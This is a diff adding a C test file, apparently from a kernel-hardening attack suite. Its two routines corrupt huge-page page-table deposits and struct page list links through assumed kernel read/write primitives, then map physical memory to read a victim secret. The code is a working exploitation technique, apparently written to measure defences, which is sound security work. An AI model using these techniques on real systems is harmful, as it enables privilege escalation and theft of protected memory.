@@ -1,0 +1,233 @@
+// SPDX-License-Identifier: GPL-2.0-only
+/*
+ * Attacks by way of links between tables. A huge page has a page table laid by
+ * for the day when it is split; which one is said in struct page.
+ */
+#include <stddef.h>
+#include <stdio.h>
+#include <sys/mman.h>
+#include <unistd.h>
+
+#include "attack.h"
+#include "list.h"
+#include "objects.h"
+
+#define HUGE_PART	0x56
+#define TABLE_PART	0x57
+#define SHARED_PART	0x58
+#define HOLE		9	/* page of the huge one, or entry of a table */
+#define COLLAPSE	25	/* MADV_COLLAPSE, which C libraries may not have */
+#define TRIES		10
+#define PATIENCE	1000	/* times 10 ms */
+
+struct huge {
+	volatile char *at;
+	uint64_t field;		/* where the struct page of its deposit is said */
+	uint64_t deposit;
+};
+
+static volatile char *room(int part, uint64_t size)
+{
+	char *at = mmap((void *)user_room(part), size, PROT_READ | PROT_WRITE,
+			MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE | MAP_FIXED_NOREPLACE, -1, 0);
+
+	if (at == MAP_FAILED)
+		return NULL;
+	madvise(at, size, MADV_DONTFORK);
+	return at;
+}
+
+static bool make_huge(struct huge *huge)
+{
+	struct slot pmd;
+
+	huge->at = room(HUGE_PART, PMD_SIZE);
+	if (!huge->at)
+		return false;
+	madvise((void *)huge->at, PMD_SIZE, MADV_HUGEPAGE);
+	huge->at[0] = 1;
+	if (kwalk((uint64_t)huge->at, LEAF, 0, &pmd) || pmd.level != LEVEL_PMD)
+		return false;
+	huge->field = page_of(pmd.slot) + TABLE_DEPOSIT;
+	huge->deposit = kread64(huge->field);
+	return huge->deposit;
+}
+
+/* A table that is in use becomes a deposit again. */
+static bool collapse(volatile char *at)
+{
+	int i;
+
+	for (i = 0; i < TRIES; i++)
+		if (!madvise((void *)at, PMD_SIZE, COLLAPSE))
+			return true;
+	return false;
+}
+
+/* A list of one. */
+static int close_list(uint64_t page)
+{
+	int err = kwrite64(page + PAGE_LRU, page + PAGE_LRU);
+
+	return err ?: kwrite64(page + PAGE_LRU + 8, page + PAGE_LRU);
+}
+
+static int link_two(uint64_t page, uint64_t other)
+{
+	int err = kwrite64(page + PAGE_LRU, other + PAGE_LRU);
+
+	return err ?: kwrite64(page + PAGE_LRU + 8, other + PAGE_LRU);
+}
+
+static enum outcome use_own_table(const struct huge *huge, const struct kernel_page *own, int err)
+{
+	struct window window = {
+		.page = (char *)huge->at + HOLE * PAGE_SIZE,
+		.slot = own->addr + HOLE * sizeof(uint64_t),
+		.size = PAGE_SIZE,
+	};
+	char text[64];
+
+	err = err ?: window_map(&window, plain_store, NULL, victim_phys());
+	snprintf(text, sizeof(text), "%s", window.page);
+	window_close(&window);
+	return judge_secret(text, err);
+}
+
+/* Zapping a part of a huge page splits it: the hole's entry is the window. */
+enum outcome deposit_own_page(void)
+{
+	struct kernel_page own;
+	enum outcome outcome;
+	struct huge huge;
+	struct slot pmd;
+	int err;
+
+	if (!make_huge(&huge) || !kernel_page(&own))
+		return broken("no huge page");
+	err = close_list(own.page);
+	err = err ?: kwrite64(huge.field, own.page);
+	madvise((void *)(huge.at + HOLE * PAGE_SIZE), PAGE_SIZE, MADV_DONTNEED);
+	kwalk((uint64_t)huge.at, LEVEL_PMD, 0, &pmd);
+	if ((pmd.value & PTE_PFN_MASK) != own.phys)
+		return lost("the stores gave %d, and another table was put under the entry", err);
+	outcome = use_own_table(&huge, &own, err);
+	if (!collapse(huge.at))
+		return broken("the page cannot be a deposit again");
+	kwrite64(huge.field, huge.deposit);
+	return outcome;
+}
+
+#ifdef __x86_64__
+/*
+ * A table that is in use is freed as a deposit, and so it is handed out again:
+ * it is the attacker's lowest table at one address, and a table of tables at
+ * another. What its entries lead to are pages of his at the first.
+ */
+struct twice {
+	volatile char *as_pages;	/* the PMD_SIZE that it maps as a lowest table */
+	volatile char *as_tables;	/* the PUD_SIZE that it maps as a higher one */
+	uint64_t table, page;
+};
+
+static bool make_table(struct twice *twice)
+{
+	struct slot slot;
+
+	twice->as_pages = room(TABLE_PART, PMD_SIZE);
+	twice->as_tables = room(SHARED_PART, 2 * PUD_SIZE);
+	if (!twice->as_pages || !twice->as_tables)
+		return false;
+	madvise((void *)twice->as_tables, 2 * PUD_SIZE, MADV_NOHUGEPAGE);
+	/* All tables above, so that the next one is a PMD table. */
+	(void)twice->as_tables[0];
+	twice->as_tables += PUD_SIZE;
+	twice->as_pages[0] = 1;
+	madvise((void *)twice->as_pages, PMD_SIZE, MADV_DONTNEED);
+	if (kwalk((uint64_t)twice->as_pages, LEVEL_PTE, 0, &slot))
+		return false;
+	twice->table = slot.slot & -PAGE_SIZE;
+	twice->page = page_of(slot.slot);
+	return true;
+}
+
+/* The real deposit stays behind it in the list. */
+static int free_as_deposit(const struct huge *huge, const struct twice *twice)
+{
+	int err = link_two(twice->page, huge->deposit);
+
+	err = err ?: link_two(huge->deposit, twice->page);
+	err = err ?: kwrite64(huge->field, twice->page);
+	madvise((void *)huge->at, PMD_SIZE, MADV_DONTNEED);
+	(void)twice->as_tables[HOLE * PMD_SIZE];
+	return err;
+}
+
+/* Tables are freed late. The pool marks them; without it a reference goes. */
+static bool wait_until_freed(uint64_t page)
+{
+	int i, count, once = 1;
+
+	for (i = 0; i < PATIENCE; i++) {
+		kread(page + PAGE_REFCOUNT, &count, sizeof(count));
+		if (count == once || kread64(page + PAGE_PRIVATE))
+			break;
+		usleep(10000);
+	}
+	kwrite(page + PAGE_REFCOUNT, &once, sizeof(once));
+	return i < PATIENCE && !kwrite64(page + PAGE_PRIVATE, 0);
+}
+
+/*
+ * The higher table goes, the lowest one is made a deposit again and that one
+ * exchanged for the real one: each is freed once.
+ */
+static bool free_once(const struct huge *huge, const struct twice *twice)
+{
+	struct slot pmd;
+	uint64_t field;
+
+	add_reference(twice->page, 1);
+	munmap((void *)(twice->as_tables - PUD_SIZE), 2 * PUD_SIZE);
+	if (!wait_until_freed(twice->page))
+		return false;
+	twice->as_pages[0] = 1;
+	if (!collapse(twice->as_pages) || kwalk((uint64_t)twice->as_pages, LEVEL_PMD, 0, &pmd))
+		return false;
+	field = page_of(pmd.slot) + TABLE_DEPOSIT;
+	if (kread64(field) != twice->page)
+		return false;
+	close_list(huge->deposit);
+	kwrite64(huge->field, 0);
+	return !kwrite64(field, huge->deposit);
+}
+
+enum outcome deposit_table_in_use(void)
+{
+	struct twice twice;
+	struct window window;
+	struct huge huge;
+	struct slot pmd;
+	char text[64];
+	int err;
+
+	stay_on_cpu(0);
+	if (!make_table(&twice) || !make_huge(&huge))
+		return broken("no huge page");
+	err = free_as_deposit(&huge, &twice);
+	kwalk((uint64_t)(twice.as_tables + HOLE * PMD_SIZE), LEVEL_PMD, 0, &pmd);
+	if ((pmd.slot & -PAGE_SIZE) != twice.table)
+		return lost("the stores gave %d, and the table was not handed out again", err);
+	if (!window_open_behind(&window, twice.as_tables + HOLE * PMD_SIZE))
+		return broken("no page table");
+	take_secret_in(twice.as_pages + HOLE * PAGE_SIZE, &window, text, sizeof(text));
+	if (!free_once(&huge, &twice))
+		return broken("the table cannot be freed once only");
+	return judge_secret(text, err);
+}
+#else
+enum outcome deposit_table_in_use(void)
+{
+	return skipped("entries of higher tables are not those of pages on this architecture");
+}
+#endif
